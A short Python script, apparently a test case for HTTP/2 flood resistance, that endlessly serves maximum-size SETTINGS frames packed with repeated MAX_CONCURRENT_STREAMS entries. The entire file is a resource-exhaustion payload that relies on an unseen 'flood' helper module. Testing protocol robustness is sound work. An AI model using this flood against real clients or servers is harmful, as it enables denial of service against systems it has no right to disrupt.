"""Sends full SETTINGS frames without end."""

from flood import frame, serve

serve(frame(4, 0, 0, b"\x00\x03\x00\x00\x00\x64" * 2730))
